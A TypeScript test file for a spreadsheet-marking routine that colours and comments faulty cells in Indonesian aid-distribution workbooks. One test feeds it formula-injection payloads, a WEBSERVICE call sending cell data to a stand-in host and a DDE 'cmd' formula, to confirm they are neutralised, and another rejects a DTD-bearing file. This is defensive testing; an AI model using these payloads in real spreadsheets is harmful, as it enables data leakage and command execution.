import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { PROBLEM_LIST_SHEET } from '@monev/domain/intake';
import { readOfficeFile } from '../reading/read-office-file';
import { readReading } from '../reading/read-reading';
import { type MarkedProblem } from '../reading/worker/office-files';
import { READING_LIMITS } from '../reading/reading-limits';
import { ZipArchive } from '../reading/xlsx/zip-archive';
import { makeZip, workbookParts } from '../testing/make-zip';
import { FIXTURES, realRegions } from '../testing/real-regions';
import { markWorkbook } from './mark-workbook';

const regions = realRegions();
const problem = (column: string, row: number, more: Partial<MarkedProblem> = {}): MarkedProblem => ({
  severity: 'BLOCKING',
  code: 'NUMBER_UNREADABLE',
  sheet: 'Data',
  row,
  column,
  text: 'x',
  wording: { id: 'Isi sel bukan angka.', en: 'The cell is no number.' },
  ...more,
});

async function marked(file: Buffer, problems: readonly MarkedProblem[]): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of markWorkbook(file, problems)) chunks.push(chunk);
  return Buffer.concat(chunks);
}
async function opened(file: Buffer): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(file as unknown as ArrayBuffer);
  return book;
}
async function rowsOf(file: Buffer) {
  const rows = [];
  for await (const row of readOfficeFile(file)) if (row.sheet !== PROBLEM_LIST_SHEET) rows.push(row);
  return rows;
}
const fillOf = (cell: ExcelJS.Cell) => (cell.fill?.type === 'pattern' ? cell.fill.fgColor?.argb : undefined);
const noteOf = (cell: ExcelJS.Cell) =>
  typeof cell.note === 'string' ? cell.note : (cell.note?.texts ?? []).map(({ text }) => text).join('');

async function office(
  change: (book: ExcelJS.Workbook, sheet: ExcelJS.Worksheet) => void = () => undefined,
): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('Data');
  sheet.mergeCells('A1:C1');
  sheet.getCell('A1').value = 'REKAP SEMBAKO';
  sheet.getRow(2).values = ['Kecamatan', 'KPM', 'Nominal'];
  sheet.getRow(3).values = ['GAMBIR', 'dua belas', { formula: 'B4*200000', result: 400 }];
  sheet.getRow(4).values = ['MENTENG', 15, 3_000_000];
  sheet.getColumn(1).width = 33;
  sheet.getCell('C4').numFmt = '#,##0';
  sheet.getCell('C4').font = { bold: true };
  book.addWorksheet('Catatan').getCell('B2').value = 'tetap';
  change(book, sheet);
  return Buffer.from(await book.xlsx.writeBuffer());
}

describe('the workbook that goes back to its sender', () => {
  it('is the same one, with bad cells coloured and commented in Indonesian', async () => {
    const file = await office();
    const back = await marked(file, [
      problem('B', 3, { text: 'dua belas' }),
      problem('B', 3, { severity: 'WARNING', wording: { id: 'Periksa juga ini.', en: 'And this.' }, text: '' }),
      problem('C', 4, { severity: 'WARNING' }),
      problem('E', 9, { severity: 'NOTE' }),
    ]);
    expect(await rowsOf(back)).toEqual(await rowsOf(file));
    const book = await opened(back);
    const data = book.getWorksheet('Data') as ExcelJS.Worksheet;
    expect(fillOf(data.getCell('B3'))).toBe('FFFFC7CD');
    expect(noteOf(data.getCell('B3'))).toBe(
      'Harus diperbaiki: Isi sel bukan angka. [dua belas]\nPeriksa: Periksa juga ini.',
    );
    expect(fillOf(data.getCell('C4'))).toBe('FFFFEB9B');
    expect(data.getCell('C4').font.bold).toBe(true);
    expect(data.getCell('C4').numFmt).toBe('#,##0');
    expect(fillOf(data.getCell('E9'))).toBe('FFDDEBF6');
    expect(fillOf(data.getCell('A3'))).toBeUndefined();
    expect(data.getColumn(1).width).toBe(33);
    expect(data.getCell('C1').master.address).toBe('A1');
    expect(data.getCell('C3').formula).toBe('B4*200000');
    expect(book.worksheets.map(({ name }) => name)).toEqual(['Data', 'Catatan', PROBLEM_LIST_SHEET]);
    expect(book.getWorksheet('Catatan')?.getCell('B2').value).toBe('tetap');
    expect(await partOf(back, 'xl/workbook.xml')).toContain('activeTab="2"');
    expect((await partOf(back, 'xl/worksheets/sheet1.xml')).includes('tabSelected')).toBe(false);
  });

  it('lists every problem with a link to its cell, those without a cell too', async () => {
    const back = await marked(await office(), [
      problem('B', 3),
      problem('', 0, { sheet: '', code: 'HEADER_NOT_FOUND' }),
      problem('NOMINAL', 4, { severity: 'WARNING', code: 'AMOUNT_MISSING' }),
    ]);
    const list = (await opened(back)).getWorksheet(PROBLEM_LIST_SHEET) as ExcelJS.Worksheet;
    expect(list.getCell('A1').value).toBe('Daftar masalah: 3 (2 harus diperbaiki)');
    const rows = [4, 5, 6].map((row) => [2, 3, 4, 8].map((column) => list.getRow(row).getCell(column).text));
    expect(rows).toEqual([
      ['Harus diperbaiki', 'Data', 'B3', 'NUMBER_UNREADABLE'],
      ['Harus diperbaiki', '', 'seluruh berkas', 'HEADER_NOT_FOUND'],
      ['Periksa', 'Data', 'baris 4, NOMINAL', 'AMOUNT_MISSING'],
    ]);
    const xml = await partOf(back, 'xl/worksheets/sheet3.xml');
    expect([...xml.matchAll(/location="([^"]*)"/g)].map(([, place]) => place)).toEqual(["'Data'!B3", "'Data'!A4"]);
  });

  it('lets nothing in that a spreadsheet would run: neither problem texts nor formulas that reach outside', async () => {
    const file = await office((_, sheet) => {
      sheet.getCell('D3').value = { formula: 'WEBSERVICE("http://x.example/"&A1)', result: 'nilai' };
      sheet.getCell('D4').value = { formula: 'SUM(B3:B4)', result: 15 };
      sheet.getCell('D5').value = { formula: "cmd|'/c calc'!A0", result: 7 };
    });
    const back = await marked(file, [problem('D', 3, { text: '=HYPERLINK("http://x")' })]);
    const book = await opened(back);
    const data = book.getWorksheet('Data') as ExcelJS.Worksheet;
    expect([data.getCell('D3').value, data.getCell('D4').formula, data.getCell('D5').value]).toEqual([
      'nilai',
      'SUM(B3:B4)',
      7,
    ]);
    const cell = book.getWorksheet(PROBLEM_LIST_SHEET)?.getCell('E4');
    expect([cell?.value, cell?.type]).toEqual(['=HYPERLINK("http://x")', ExcelJS.ValueType.String]);
  });

  it('keeps what others wrote beside a cell, and takes its own earlier marks back', async () => {
    const file = await office((_, sheet) => {
      sheet.getCell('B3').note = 'Tolong cek, Bu';
      sheet.getCell('A4').note = 'sudah benar';
    });
    const first = await marked(file, [problem('B', 3), problem('C', 4)]);
    const once = (await opened(first)).getWorksheet('Data') as ExcelJS.Worksheet;
    expect(noteOf(once.getCell('B3'))).toContain('Tolong cek, Bu');
    expect(noteOf(once.getCell('B3'))).toContain('Isi sel bukan angka.');
    const second = await marked(first, [problem('A', 3)]);
    const book = await opened(second);
    const twice = book.getWorksheet('Data') as ExcelJS.Worksheet;
    expect([fillOf(twice.getCell('A3')), fillOf(twice.getCell('C4'))]).toEqual(['FFFFC7CD', undefined]);
    expect([noteOf(twice.getCell('C4')), noteOf(twice.getCell('A4'))]).toEqual(['', 'sudah benar']);
    expect(book.worksheets.map(({ name }) => name)).toEqual(['Data', 'Catatan', PROBLEM_LIST_SHEET]);
    expect(await rowsOf(second)).toEqual(await rowsOf(file));
  });

  it('of a CSV is a workbook in which every value is the text that it was', async () => {
    const file = Buffer.from('\ufeffkode;jumlah\r\n31.71;12.657\r\n"=1+1";-5\r\n');
    const back = await marked(file, [problem('B', 3, { sheet: 'CSV' })]);
    const rows = await rowsOf(back);
    expect(rows.map((row) => row.cells.map((cell) => (cell.kind === 'TEXT' ? cell.text : cell.kind)))).toEqual([
      ['kode', 'jumlah'],
      ['31.71', '12.657'],
      ['=1+1', '-5'],
    ]);
    const sheet = (await opened(back)).getWorksheet('CSV') as ExcelJS.Worksheet;
    expect(fillOf(sheet.getCell('B3'))).toBe('FFFFC7CD');
    expect(sheet.getCell('A3').value).toBe('=1+1');
  });

  it('of a workbook with merged areas is marked where the merge shows', async () => {
    const file = await office((_, sheet) => sheet.mergeCells('A3:A4'));
    const sheet = (await opened(await marked(file, [problem('A', 4)]))).getWorksheet('Data') as ExcelJS.Worksheet;
    expect(noteOf(sheet.getCell('A3'))).toContain('Isi sel bukan angka.');
  });

  it('is refused like the file itself when it is hostile', async () => {
    const dtd = makeZip({ ...workbookParts(''), '[Content_Types].xml': '<!DOCTYPE x><Types></Types>' });
    await expect(marked(dtd, [])).rejects.toMatchObject({ fault: 'ENTITY_DECLARATION' });
    await expect(marked(Buffer.from('%PDF-'), [])).rejects.toMatchObject({ fault: 'PDF' });
  });

  it.each(['kemensos_salur_cair_kabkota', 'progres_transaksi_kabkota', 'siksng_bnba_sp2d'])(
    'of the office layout %s reads again as it did, with its own problems marked',
    async (layout) => {
      const file = readFileSync(join(FIXTURES, 'layouts', `${layout}.xlsx`));
      const before = await readReading(file, { regions });
      const back = await marked(file, before.problems);
      expect(await rowsOf(back)).toEqual(await rowsOf(file));
      const after = await readReading(back, { regions });
      expect(after.records).toEqual(before.records);
      expect(after.problems).toEqual(before.problems);
      expect((await opened(back)).getWorksheet(PROBLEM_LIST_SHEET)?.rowCount).toBe(3 + before.problems.length);
    },
  );
});

async function partOf(file: Buffer, name: string): Promise<string> {
  const parts: Buffer[] = [];
  for await (const chunk of new ZipArchive(file, READING_LIMITS).read(name)) parts.push(chunk);
  return Buffer.concat(parts).toString('utf8');
}
